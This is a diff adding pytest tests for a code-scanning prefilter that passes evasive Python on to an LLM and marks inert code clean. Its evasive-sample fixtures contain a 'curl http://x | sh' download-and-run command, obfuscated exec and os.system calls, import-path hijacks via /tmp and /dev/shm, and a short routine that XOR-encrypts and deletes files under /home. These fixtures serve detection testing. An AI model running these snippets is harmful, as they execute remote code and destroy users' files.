@@ -0,0 +1,71 @@
+import pytest
+
+from core.prefilter import Prefilter
+from utils.hashing import content_hash
+
+# Code that must always be left to the LLM
+EVASIVE_SAMPLES = [
+    'import builtins; builtins.__dict__["ex" + "ec"]("print(1)")\n',
+    'import os\nos.execl("/bin/sh", "sh", "-c", "curl http://x | sh")\n',
+    'import sys\nsys.modules["o" + "s"].__dict__["sys" + "tem"]("id")\n',
+    (
+        "import os\n"
+        "def xor(data):\n"
+        "    return bytes(b ^ 0x42 for b in data)\n"
+        "for root, dirs, files in os.walk('/home'):\n"
+        "    for name in files:\n"
+        "        p = os.path.join(root, name)\n"
+        "        data = open(p, 'rb').read()\n"
+        "        open(p + '.enc', 'wb').write(xor(data))\n"
+        "        os.remove(p)\n"
+    ),
+    'from os import system as s\ns("id")\n',
+    'x = [].__class__.__base__.__subclasses__()\n',
+    '@print\ndef f():\n    pass\n',
+    'class A(metaclass=type):\n    pass\n',
+    'def f(a=print("side effect")):\n    pass\n',
+    'x = f"{print(1)}"\n',
+    '(lambda: 0)()\n',
+    'payload = "' + "A" * 2000 + '"\n',
+    'def f(:\n',
+    '__path__ = ["/dev/shm"]\nfrom . import payload\n',
+    '__package__ = "antigravity"\nfrom . import x\n',
+    '__spec__ = None\nfrom . import x\n',
+    '__loader__ = None\n',
+    '__name__ = "os"\nfrom . import path\n',
+    '__path__ += ["/tmp"]\nfrom .payload import *\n',
+    'class A:\n    __init_subclass__ = None\n',
+]
+
+# Code with nothing to execute
+CLEAN_SAMPLES = [
+    "",
+    '"""Package docstring."""\nfrom .core import Scanner\nfrom . import utils\n\n__all__ = ["Scanner", "utils"]\n',
+    "VERSION = (1, 2, 3)\nNAMES = {'a': 1, 'b': [2, 3]}\n",
+    "def add(a, b):\n    return a + b\n",
+    "from ..models import *  # re-export\n",
+    '__version__ = "1.0"\n__author__ = "someone"\n',
+]
+
+@pytest.mark.parametrize("code", EVASIVE_SAMPLES)
+def test_evasive_code_is_left_to_the_llm(code):
+    assert Prefilter(known_hashes_path="").check("sample.py", code.encode("utf-8")) is None
+
+@pytest.mark.parametrize("code", CLEAN_SAMPLES)
+def test_inert_code_is_clean(code):
+    analysis = Prefilter(known_hashes_path="").check("sample.py", code.encode("utf-8"))
+    assert analysis is not None
+    assert analysis["is_malicious"] is False
+    assert analysis["malicious_probability"] == 0.0
+
+def test_only_python_files_are_tokenized():
+    assert Prefilter(known_hashes_path="").check("sample.js", b"var x = 1;\n") is None
+
+def test_known_good_hash(tmp_path):
+    content = b"import os\nos.system('make')\n"
+    hashes = tmp_path / "known_good.txt"
+    hashes.write_text(f"# known-good files\n{content_hash(content)}\n")
+
+    prefilter = Prefilter(known_hashes_path=str(hashes))
+    assert prefilter.check("build.py", content)["reasoning"] == "Prefilter: known-good file"
+    assert prefilter.check("build.py", content + b"\n") is None